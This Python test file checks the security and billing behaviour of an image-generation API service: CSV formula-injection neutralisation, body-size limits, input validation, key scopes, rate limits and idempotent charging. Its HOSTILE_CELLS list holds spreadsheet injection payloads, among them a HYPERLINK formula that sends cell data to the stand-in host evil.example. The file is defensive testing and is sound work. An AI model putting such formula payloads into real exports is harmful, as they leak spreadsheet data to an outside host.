"""Every input from outside, bounded and answered (issue 10): CSV exports safe in a spreadsheet, body limits on every
path before the body is read, no 500 from hostile input anywhere."""
import csv
import io

import httpx
import pytest
from django.urls import reverse

from billing import exports
from tests.test_admin_audit import _make_staff, _sign_in_with_mfa

HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def test_formula_cells_are_made_inert():
    for value in HOSTILE_CELLS:
        assert exports.safe_cell(value) == "'" + value
    assert exports.safe_cell("dall-e-3") == "dall-e-3"
    assert exports.safe_cell(-5) == -5 and exports.safe_cell(None) is None
    line = "".join(exports.csv_lines(["a"], [[HOSTILE_CELLS[0]]]))
    assert list(csv.reader(io.StringIO(line)))[1] == ["'" + HOSTILE_CELLS[0]]


@pytest.fixture
def hostile_rows(live_url, api_key):
    """Rejected requests whose client-chosen fields land in the ledger verbatim (and must leave it inert)."""
    for value in HOSTILE_CELLS[:4]:
        response = httpx.post(f"{live_url}/v1/images/generations", headers={"Authorization": f"Bearer {api_key[1]}"},
                              json={"model": value, "prompt": "x", "size": value, "quality": value})
        assert response.status_code == 404
    return HOSTILE_CELLS[:4]


def _cells(content: bytes) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(content.decode())) for cell in row}


def test_the_customers_request_export_is_safe_to_open(client, user, hostile_rows):
    client.force_login(user)
    response = client.get(reverse("request-export"))
    cells = _cells(b"".join(response.streaming_content))
    for value in hostile_rows:
        assert "'" + value in cells and value not in cells
    assert not any(cell[:1] in "=+-@\t\r" for cell in cells if cell)


def test_the_staff_ledger_export_is_safe_to_open(client, hostile_rows):
    staff, _ = _make_staff("staff@imagegate.test")
    _sign_in_with_mfa(client, staff)
    response = client.get(reverse("admin:billing_ledgerentry_export_csv"))
    assert response.status_code == 200
    cells = _cells(b"".join(response.streaming_content))
    for value in hostile_rows:
        assert "'" + value in cells and value not in cells


# --- Body limits on every path, before the body is read -----------------------------------------------------------

class _Counting:
    """A request body that counts how much of it the server read before answering."""

    def __init__(self, total: int, chunk: int = 64 * 1024):
        self.total, self.chunk, self.sent = total, chunk, 0

    def __iter__(self):
        while self.sent < self.total:
            self.sent += self.chunk
            yield b"x" * self.chunk


@pytest.mark.parametrize("path, limit", [
    ("/billing/stripe/webhook/", 1024 * 1024), ("/accounts/login/", 256 * 1024), ("/dashboard/keys/", 256 * 1024),
    ("/admin/login/", 2 * 1024 * 1024), ("/v1/images/generations", 1024 * 1024),
    ("/v1/images/edits", 64 * 1024 * 1024),
])
def test_every_path_refuses_a_body_over_its_limit_before_reading_it(live_url, path, limit):
    status, body_text = _declare_huge_body(live_url, path)
    assert status == 413, path  # refused on the declared length: nothing was read
    body = _Counting(300 * 1024 * 1024)
    try:
        chunked = httpx.post(f"{live_url}{path}", content=iter(body), timeout=30,
                             headers={"Content-Type": "application/octet-stream"})
        assert chunked.status_code == 413, path
    except httpx.WriteError:  # the server answered 413 and closed while the client was still sending
        pass
    # Stopped at the limit, not after 300 MB. The slack is what the loopback socket buffers (the client's send and
    # the server's receive buffer, up to ~6 MB each under Linux autotuning) hold before the server's close is seen.
    assert body.sent <= limit + 16 * 1024 * 1024, (path, body.sent)
    if path.startswith("/v1/"):
        assert '"code": "request_too_large"' in body_text


def _declare_huge_body(base: str, path: str) -> tuple[int, str]:
    """POST with `Content-Length: 300 MB` and 16 bytes of it; the server's status line and body."""
    import socket
    from urllib.parse import urlsplit

    url = urlsplit(base)
    with socket.create_connection((url.hostname, url.port), timeout=10) as sock:
        sock.sendall((f"POST {path} HTTP/1.1\r\nHost: {url.hostname}\r\nContent-Type: application/json\r\n"
                      f"Content-Length: {300 * 1024 * 1024}\r\n\r\n").encode() + b"x" * 16)
        answer = b""
        while b"\r\n\r\n" not in answer or len(answer.split(b"\r\n\r\n", 1)[1]) < 20:
            part = sock.recv(65536)
            if not part:
                break
            answer += part
    head, _, body = answer.partition(b"\r\n\r\n")
    return int(head.split()[1]), body.decode(errors="replace")


# --- No 500 from input ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("url", ["/dashboard/requests/?date_to=9999-12-31",
                                 "/dashboard/requests/export.csv?date_to=9999-12-31",
                                 "/dashboard/?to=9999-12-31", "/dashboard/?from=0001-01-01&to=9999-12-31",
                                 "/dashboard/requests/?date_from=99999-01-01", "/dashboard/?from=2024-02-30"])
def test_far_and_impossible_dates_get_a_clear_message(client, user, organization, url):
    client.force_login(user)
    response = client.get(url)
    assert response.status_code in (200, 400), url
    text = (b"".join(response.streaming_content) if response.streaming else response.content).decode()
    assert "between 2020-01-01 and 2099-12-31" in text or "YYYY-MM-DD" in text, url


def test_a_generation_for_another_host_is_a_400(live_url, api_key):
    response = httpx.post(f"{live_url}/v1/images/generations", headers={"Authorization": f"Bearer {api_key[1]}",
                                                                        "Host": "evil.example"},
                          json={"model": "local-preview", "prompt": "x", "size": "256x256"})
    assert response.status_code == 400 and response.json()["error"]["code"] == "invalid_host"


@pytest.mark.parametrize("body", [b'[{"id": "evt_1"}]', b'{"type": "invoice.paid", "data": {"object": {}}}',
                                  b'{"id": "evt_2", "type": "invoice.paid"}', b'"just a string"', b"not json",
                                  b'{"id": 5, "type": [], "data": {"object": {}}}'])
def test_a_validly_signed_webhook_that_is_not_an_event_is_a_400(client, settings, body):
    import hmac
    import time as _time
    from hashlib import sha256

    settings.STRIPE_WEBHOOK_SECRET = "whsec_test"
    stamp = int(_time.time())
    signature = hmac.new(b"whsec_test", f"{stamp}.".encode() + body, sha256).hexdigest()
    response = client.post("/billing/stripe/webhook/", data=body, content_type="application/json",
                           HTTP_STRIPE_SIGNATURE=f"t={stamp},v1={signature}")
    assert response.status_code == 400 and b"invalid event" in response.content


# --- Money rules at the edges ------------------------------------------------------------------------------------

def test_a_rotated_key_carries_the_months_spend_over(openai_client, live_url, api_key, client, user):
    from accounts import services as account_services
    from billing import services as billing_services

    key, raw = api_key
    billing_services.set_spend_limit(organization=key.organization, api_key=key, monthly_limit_micros=10_000)
    for _ in range(10):  # $0.010 of $0.010
        openai_client.images.generate(model="local-preview", prompt="x", size="256x256", response_format="b64_json")
    new_key, new_raw = account_services.rotate_api_key(api_key=key)
    import openai

    fresh = openai.OpenAI(base_url=f"{live_url}/v1", api_key=new_raw, max_retries=0)
    with pytest.raises(openai.RateLimitError) as info:
        fresh.images.generate(model="local-preview", prompt="x", size="256x256", response_format="b64_json")
    assert info.value.code == "insufficient_quota"  # not a fresh $0.01: the month's spend came along
    with pytest.raises(openai.RateLimitError):  # and the old key, still valid for its grace period, is out too
        openai_client.images.generate(model="local-preview", prompt="x", size="256x256", response_format="b64_json")


@pytest.fixture
def playground_client(transactional_db, client, user, organization, prices):
    client.force_login(user)
    return client


def _play(client):
    return client.post(reverse("playground"), {"prompt": "a red fox", "model": "local-preview", "size": "256x256",
                                               "n": 1})


def test_the_playground_obeys_the_organizations_rate_limit(playground_client, organization, api_key, live_url):
    from accounts.models import Organization

    Organization.objects.filter(pk=organization.pk).update(rate_limit_rpm=2)
    from config import process_cache

    process_cache.invalidate("api_keys")
    assert _play(playground_client).status_code == 200
    assert _play(playground_client).status_code == 200
    refused = _play(playground_client)
    assert refused.status_code == 429 and b"Rate limit reached" in refused.content
    api = httpx.post(f"{live_url}/v1/images/generations", headers={"Authorization": f"Bearer {api_key[1]}"},
                     json={"model": "local-preview", "prompt": "x", "size": "256x256"})
    assert api.status_code == 429  # one budget for the organization, whichever way it spends


def test_members_may_see_but_not_spend(transactional_db, client, organization, prices):
    from accounts import services as account_services
    from accounts.models import Membership
    from billing.models import LedgerEntry

    member, _ = account_services.get_or_create_user(email="member@example.com", password="member horse battery")
    Membership.all_tenants_unsafe.create(organization=organization, user=member, role=Membership.Role.MEMBER)
    client.force_login(member)
    page = client.get(reverse("playground"))
    assert page.status_code == 200 and b'data-testid="playground-read-only"' in page.content
    assert _play(client).status_code == 403
    assert not LedgerEntry.objects.for_organization(organization).exists()
    team = client.get(reverse("team")).content.decode()
    assert "Generate images in the playground (charged to the organization)" in team


# --- Key scopes ------------------------------------------------------------------------------------------------------

def test_key_scopes_are_checked_on_every_path(live_url, api_key, organization):
    import openai

    from accounts import services as account_services

    images_only, images_raw = account_services.create_api_key(organization=organization, name="gen",
                                                              scopes=["images.generate"])
    usage_only, usage_raw = account_services.create_api_key(organization=organization, name="audit",
                                                            scopes=["usage.read"])
    gen = openai.OpenAI(base_url=f"{live_url}/v1", api_key=images_raw, max_retries=0)
    gen.images.generate(model="local-preview", prompt="x", size="256x256", response_format="b64_json")
    usage = httpx.get(f"{live_url}/v1/organization/usage/records", headers={"Authorization": f"Bearer {images_raw}"})
    assert usage.status_code == 401 and usage.json()["error"]["code"] == "missing_scope"
    assert "Missing scopes: usage.read" in usage.json()["error"]["message"]
    audit = openai.OpenAI(base_url=f"{live_url}/v1", api_key=usage_raw, max_retries=0)
    with pytest.raises(openai.AuthenticationError) as info:
        audit.images.generate(model="local-preview", prompt="x", size="256x256")
    assert info.value.code == "missing_scope"
    records = httpx.get(f"{live_url}/v1/organization/usage/records", headers={"Authorization": f"Bearer {usage_raw}"})
    assert records.status_code == 200 and len(records.json()["data"]) == 1
    default = httpx.get(f"{live_url}/v1/organization/costs?start_time=1",
                        headers={"Authorization": f"Bearer {api_key[1]}"})
    assert default.status_code == 200  # keys made without choosing get every scope, as OpenAI's "All"


def test_an_idempotency_replay_still_checks_the_keys_models(live_url, api_key, organization):
    from accounts import services as account_services

    body = {"model": "local-preview", "prompt": "x", "size": "256x256", "response_format": "b64_json"}
    first = httpx.post(f"{live_url}/v1/images/generations", json=body,
                       headers={"Authorization": f"Bearer {api_key[1]}", "Idempotency-Key": "replay-1"})
    assert first.status_code == 200
    restricted, raw = account_services.create_api_key(organization=organization, name="narrow",
                                                      allowed_models=["dall-e-2"])
    replay = httpx.post(f"{live_url}/v1/images/generations", json=body,
                        headers={"Authorization": f"Bearer {raw}", "Idempotency-Key": "replay-1"})
    assert replay.status_code == 403 and replay.json()["error"]["code"] == "model_not_allowed"
    no_scope, raw2 = account_services.create_api_key(organization=organization, name="audit", scopes=["usage.read"])
    replay = httpx.post(f"{live_url}/v1/images/generations", json=body,
                        headers={"Authorization": f"Bearer {raw2}", "Idempotency-Key": "replay-1"})
    assert replay.status_code == 401 and replay.json()["error"]["code"] == "missing_scope"


def test_create_api_key_command_and_keys_page_choose_scopes(client, user, organization):
    from io import StringIO

    from django.core.management import call_command

    from accounts.models import ApiKey

    out = StringIO()
    call_command("create_api_key", organization.slug, "--name", "cli", "--scopes", "usage.read", stdout=out)
    assert ApiKey.objects.for_organization(organization).get(name="cli").scopes == ["usage.read"]
    client.force_login(user)
    client.post(reverse("api-keys"), {"name": "web", "permissions": "restricted", "scopes": ["images.generate"]})
    client.post(reverse("api-keys"), {"name": "all"})
    assert ApiKey.objects.for_organization(organization).get(name="all").scopes == ["images.generate", "usage.read"]
    refused = client.post(reverse("api-keys"), {"name": "none", "permissions": "restricted"})
    assert b"Choose at least one permission" in refused.content
    assert ApiKey.objects.for_organization(organization).get(name="web").scopes == ["images.generate"]
    page = client.get(reverse("api-keys")).content.decode()
    assert "Read the organization&#x27;s usage and costs" in page or "Read the organization's usage" in page


# --- An Idempotency-Key never charges twice, even across a crash ---------------------------------------------------

@pytest.mark.parametrize("redis_forgot", [False, True])
def test_a_retry_after_a_crash_between_commit_and_reply_is_not_charged_again(transactional_db, prices, api_key,
                                                                             redis_forgot):
    from django_redis import get_redis_connection

    from billing.models import LedgerEntry
    from tests.servers import uvicorn_processes

    key, raw = api_key
    body = {"model": "local-preview", "prompt": "once", "size": "256x256", "response_format": "b64_json"}
    headers = {"Authorization": f"Bearer {raw}", "Idempotency-Key": f"crash-{redis_forgot}"}
    with uvicorn_processes(1, IMAGEGATE_FAULTS="after_commit", IDEMPOTENCY_CLAIM_TTL_SECONDS=1) as [(base, proc)]:
        with pytest.raises(httpx.HTTPError):  # the process died after committing, before answering
            httpx.post(f"{base}/v1/images/generations", json=body, headers=headers, timeout=30)
        proc.wait(timeout=10)
        assert proc.returncode == 137
    charged = LedgerEntry.objects.for_organization(key.organization).filter(status="succeeded")
    assert charged.count() == 1
    first_id = charged.get().request_id
    if redis_forgot:
        get_redis_connection("default").flushdb()  # not even the attempt's trace is left in Redis
    with uvicorn_processes(1, IDEMPOTENCY_CLAIM_TTL_SECONDS=1) as [(base, _)]:  # another host, the client's retry
        retry = httpx.post(f"{base}/v1/images/generations", json=body, headers=headers, timeout=30)
        again = httpx.post(f"{base}/v1/images/generations", json=body, headers=headers, timeout=30)
    assert retry.status_code == 200 and retry.headers["idempotent-replayed"] == "true"
    assert retry.headers["x-request-id"] == first_id and again.json() == retry.json()
    assert charged.count() == 1 and LedgerEntry.objects.for_organization(key.organization).count() == 1
